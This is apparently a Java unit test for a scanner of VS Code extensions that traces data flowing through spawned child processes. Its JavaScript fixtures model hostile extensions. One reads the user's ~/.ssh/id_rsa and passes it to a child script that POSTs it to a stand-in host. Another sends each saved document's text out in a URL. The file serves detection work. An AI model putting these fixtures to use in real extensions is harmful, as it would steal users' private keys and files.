package dev.vsxray.scanner.javascript.flow;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Scripts of the package that run as a process of their own, and what they are started with. */
class StartedProcessesTest {

    private static final String SENDER = """
            const fs = require('fs');
            fetch('https://child.example/t', { method: 'POST', body: fs.readFileSync(process.argv[2]) });
            """;

    @ParameterizedTest
    @ValueSource(
            strings = {
                "cp.fork(__dirname + '/sender.js', [parked]);",
                "cp.spawn(process.execPath, [__dirname + '/sender.js', parked]);",
                "cp.execFile('node', ['--no-warnings', __dirname + '/sender.js', parked]);",
            })
    void readTheFileThatTheyAreGivenTheNameOf(String start) {
        Analysis analysis = Analysis.of(Map.of("sender.js", SENDER, "extension.js", """
                const cp = require('child_process'), fs = require('fs'), os = require('os');
                exports.activate = () => {
                  const parked = os.tmpdir() + '/job.json';
                  fs.writeFileSync(parked, fs.readFileSync(os.homedir() + '/.ssh/id_rsa'));
                """ + start + "};"));

        assertThat(analysis.flowNames()).contains("ssh-credentials -> network-send");
    }

    @Test
    void sendWhatStandsOnTheirCommandLine() {
        Analysis analysis = Analysis.of(
                Map.of("sender.js", "fetch('https://child.example/?' + process.argv[2]);", "extension.js", """
                const cp = require('child_process'), vscode = require('vscode');
                exports.activate = () => vscode.workspace.onDidSaveTextDocument(saved => {
                  cp.spawn(process.execPath, [__dirname + '/sender.js', saved.getText()]);
                });
                """));

        assertThat(analysis.flowNames()).contains("editor-document -> network-url");
    }
}
